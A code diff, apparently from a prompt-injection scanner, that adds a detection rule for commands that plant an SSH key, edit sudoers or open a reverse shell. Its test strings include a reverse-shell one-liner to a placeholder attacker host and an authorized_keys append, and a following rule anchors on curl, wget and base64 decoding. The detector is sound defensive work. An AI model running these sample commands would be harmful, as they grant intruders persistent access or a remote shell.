@@ -91,6 +91,14 @@ var promptware = family{
 			NoMatch: []string{"your name is on the list", "choose a name for the branch"},
 		},
 		{
+			ID: "injection-plant-key", Title: "Command that lets somebody in", Weight: medium,
+			Tags:    []string{tagUntrusted},
+			Anchors: []string{"authorized_keys", "etc/sudoers", "nopasswd", "dev/tcp/"}, Before: 120, After: 60,
+			Pattern: `(?:\becho\s[^\n|;]{3,110}?>>?\s*\S*(?:\.ssh/authorized_keys|/etc/sudoers\b)|(?:ba|z)?sh\s+-i\s[^\n]{0,30}/dev/tcp/[\w.-]+/\d+)`,
+			Match:   []string{"echo 'their-key' >> ~/.ssh/authorized_keys", "bash -i >& /dev/tcp/evil.example/4444 0>&1"},
+			NoMatch: []string{"cat id.pub >> ~/.ssh/authorized_keys", "edit /etc/sudoers with visudo"},
+		},
+		{
 			ID: "injection-pipe-to-shell", Title: "Order to run a downloaded script", Weight: weak,
 			Tags:    []string{tagImperative},
 			Anchors: []string{"curl ", "wget ", "iwr ", "invoke-webrequest", "base64 -d", "base64 --decode"}, After: 200,
